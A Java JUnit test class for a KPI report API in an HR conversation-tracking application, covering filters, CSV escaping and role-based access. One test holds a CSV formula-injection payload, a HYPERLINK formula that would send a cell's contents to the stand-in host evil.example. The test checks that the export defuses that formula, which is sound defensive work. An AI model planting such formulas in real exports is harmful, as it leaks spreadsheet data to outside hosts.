package org.careerconversations.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.careerconversations.AppTest;
import org.careerconversations.EngineRest.Answer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The KPIs on the known data set of {@link KpiDataSet} (on H2; {@link PostgresKpiTest} runs the same numbers on
 * PostgreSQL): by period (also an empty one), manager and HR partner, JSON and CSV, and who may see them.
 */
class KpiReportTest extends AppTest {

    private KpiDataSet dataSet;

    @BeforeEach
    void knownDataSet() {
        dataSet = new KpiDataSet(engine, jdbc, rest());
        dataSet.load();
    }

    @AfterEach
    void removeDataSet() {
        dataSet.remove();
    }

    @Test
    void everythingWithoutFilters() {
        dataSet.checkEverythingWithoutFilters();
    }

    @Test
    void onePeriod() {
        dataSet.checkOnePeriod();
    }

    @Test
    void emptyPeriod() {
        dataSet.checkEmptyPeriod();
    }

    @Test
    void oneManagersTeam() {
        dataSet.checkOneManagersTeam();
    }

    @Test
    void csvHasHeaderAndEscapesSeparators() {
        Answer csv = rest().as("hanna").get("/api/reports/kpis?format=csv&from=2026-03-01&to=2026-03-31");
        assertThat(csv.status()).as(csv.body()).isEqualTo(200);
        List<String> lines = csv.body().lines().toList();
        assertThat(lines.get(0)).isEqualTo("figure,item,count,total,value");
        assertThat(lines).contains("period_from,,,,2026-03-01", "open_conversations,SCHEDULING,1,,",
            "overdue_tasks,Schedule the conversation (manager),1,,",
            "on_time_rate,Schedule the conversation (manager),1,2,0.5", "median_days_meeting_to_sign_off,,,1,2.0", "development_action_completion_rate,,1,2,0.5",
            "job_satisfaction_average,2026-03,,2,3.0", "reschedules,,3,,", "mediations,,1,,");

        Answer byAccept = rest().as("hanna").getAccepting("/api/reports/kpis?managerId=a,%22b%22", "text/csv");
        assertThat(byAccept.status()).as(byAccept.body()).isEqualTo(200);
        assertThat(byAccept.body()).startsWith("figure,item,count,total,value\r\n")
            .contains("\r\nmanager,,,,\"a,\"\"b\"\"\"\r\n");
    }

    @Test
    void aFormulaInTheCsvIsShownNotRun() {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
        Answer csv = rest().as("hanna").getAccepting("/api/reports/kpis?managerId="
            + java.net.URLEncoder.encode(formula, java.nio.charset.StandardCharsets.UTF_8), "text/csv");

        assertThat(csv.status()).as(csv.body()).isEqualTo(200);
        assertThat(csv.body()).contains("\r\nmanager,,,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\r\n");
        for (String cell : List.of("+1", "-1", "@SUM(A1)", "\tx", "\rx")) {
            // (a cell with a line break is quoted as well)
            assertThat(KpiCsv.field(cell).replaceFirst("^\"", "")).as(cell).startsWith("'");
        }
        assertThat(KpiCsv.field(-1)).as("a number stays a number").isEqualTo("-1");
    }

    @Test
    void onlyProcessOwnersHrAndAdminsSeeKpis() {
        for (String user : List.of("hanna", "admin")) {
            assertThat(rest().as(user).get("/api/reports/kpis").status()).as(user).isEqualTo(200);
        }
        for (String user : List.of("eva", "maria", "dora", "hugo")) {
            Answer answer = rest().as(user).get("/api/reports/kpis");
            assertThat(answer.status()).as(user).isEqualTo(403);
            assertThat(answer.message()).contains("process owners and HR");
        }
        assertThat(rest().get("/api/reports/kpis").status()).isEqualTo(401);
        assertThat(rest().as("hanna").get("/api/reports/kpis?from=2026-04-01&to=2026-03-01").status())
            .isEqualTo(400);
    }
}
